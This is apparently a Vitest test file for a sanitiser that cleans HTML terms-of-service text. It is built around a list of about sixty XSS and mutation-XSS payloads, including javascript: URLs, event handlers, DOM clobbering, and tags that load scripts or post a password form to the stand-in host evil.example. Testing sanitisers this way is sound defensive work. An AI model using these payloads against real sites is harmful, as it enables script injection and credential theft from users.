import { afterEach, describe, expect, it, vi } from 'vitest'
import { sanitizeTerms } from './sanitizeTerms'

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 2x">',
  '<picture><source srcset="https://evil.example/a.png"></picture>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/authenticate/logout">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https:/authenticate/logout">x</a>',
  '<a href="https:authenticate/logout">x</a>',
  '<a href="ht\ntps:/authenticate/logout">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<p onclick="alert(1)">x</p>',
  '<p onpointerenter="alert(1)" tabindex=0 autofocus onfocus=alert(1)>x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<style>* { background: url(https://evil.example/x) }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password type=password><button>Go</button></form>',
  '<input type=image src=https://evil.example/x>',
  '<video src=https://evil.example/x autoplay onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p id="root" name="getElementById">x</p>',
  '<p class="capstan-button" data-variant="primary" aria-label="I AGREE" role="button">I AGREE</p>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
  '<form><input name=nodeName><input name=removeChild><input name=attributes></form>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
]

const allowedTags =
  /^(a|abbr|b|blockquote|br|code|div|em|h[1-6]|hr|i|li|ol|p|pre|span|strong|table|tbody|td|th|tr|u|ul)$/
const allowedAttributes = /^(href|target|rel|title|colspan|rowspan|scope|lang|dir|start)$/

function elements(fragment: DocumentFragment) {
  return [...fragment.querySelectorAll('*')]
}

function shown(fragment: DocumentFragment) {
  const holder = document.createElement('div')
  holder.append(fragment)
  return holder
}

describe('sanitizeTerms', () => {
  afterEach(() => vi.unstubAllGlobals())

  it.each(hostile)('takes the teeth out of %s', (agreement) => {
    const fragment = sanitizeTerms(`<p>before</p>${agreement}<p>after</p>`)

    expect(elements(fragment).map((element) => element.localName)).toSatisfy((names: string[]) =>
      names.every((name) => allowedTags.test(name)),
    )
    expect(elements(fragment).flatMap((element) => element.getAttributeNames())).toSatisfy(
      (names: string[]) => names.every((name) => allowedAttributes.test(name)),
    )
    expect([...fragment.querySelectorAll('[href]')]).toEqual([])
    expect(fragment.textContent).toContain('before')
  })

  it('keeps headings, lists, tables and emphasis as they are', () => {
    const agreement =
      '<h2>1. Use</h2><p>You <strong>may</strong> and <em>must</em>.</p><ol start="3"><li>One</li></ol>' +
      '<table><tbody><tr><th scope="row">Fee</th><td colspan="2">0.00</td></tr></tbody></table>'

    // proves TERMS-002
    expect(shown(sanitizeTerms(agreement)).innerHTML).toBe(agreement)
  })

  it.each(['https://example.com/terms', 'http://example.com', 'mailto:help@example.com', 'tel:+15550100'])(
    'opens %s in a tab that knows nothing of this one',
    (href) => {
      const agreement = sanitizeTerms(`<a href="${href}" target="_self" rel="opener">Read</a>`)
      const link = shown(agreement).querySelector('a')

      expect(link).toHaveAttribute('href', href)
      expect(link).toHaveAttribute('target', '_blank')
      expect(link).toHaveAttribute('rel', 'noopener noreferrer')
    },
  )

  it('gives the sanitiser the policy capstan-terms, once, and no script address', async () => {
    vi.resetModules()
    const createPolicy = vi.fn((_name: string, rules: object) => rules)
    vi.stubGlobal('trustedTypes', { createPolicy })
    const { sanitizeTerms: sanitizeAgain } = await import('./sanitizeTerms')
    const { termsPolicy } = await import('./termsPolicy')

    const first = sanitizeAgain('<p>One</p>')
    sanitizeAgain('<p>Two</p>')

    expect(first.textContent).toBe('One')
    expect(createPolicy.mock.calls.map(([name]) => name)).toEqual(['capstan-terms'])
    expect(() => termsPolicy()?.createScriptURL('https://evil.example/x.js')).toThrow('loads no scripts')
  })
})
